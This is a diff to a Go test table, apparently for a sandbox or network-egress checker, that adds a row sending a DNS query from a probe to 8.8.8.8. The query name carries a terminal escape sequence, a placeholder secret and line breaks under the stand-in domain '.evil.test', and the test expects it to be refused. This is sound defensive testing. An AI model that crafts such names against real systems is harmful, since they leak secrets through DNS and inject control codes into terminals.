@@ -55,6 +55,11 @@ var resolutionRows = []row{
 // nameRows ask name servers, and use names to tell them something.
 var nameRows = []row{
 	{
+		id: "E-6", tries: "a name that would write on a terminal", rules: []string{"good.example.com:443"},
+		run:  []string{"{probe}", "ask", "udp", "8.8.8.8:53", "A", "\x1b]0;{secret}\x07\r\n.evil.test"},
+		bare: addressEvil, boxed: "NXDOMAIN|FORMERR",
+	},
+	{
 		id: "E-6", tries: "an allowed name at the configured, and at hard-coded servers", rules: []string{"good.example.com:443"},
 		run:   []string{"sh", "-c", "for s in $(sed -n 's/^nameserver //p' /etc/resolv.conf):53 8.8.8.8:53 1.1.1.1:53 [2001:4860:4860::8888]:53; do {probe} ask udp $s A good.example.com; {probe} ask tcp $s A good.example.com; done"},
 		bare:  "~" + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood,
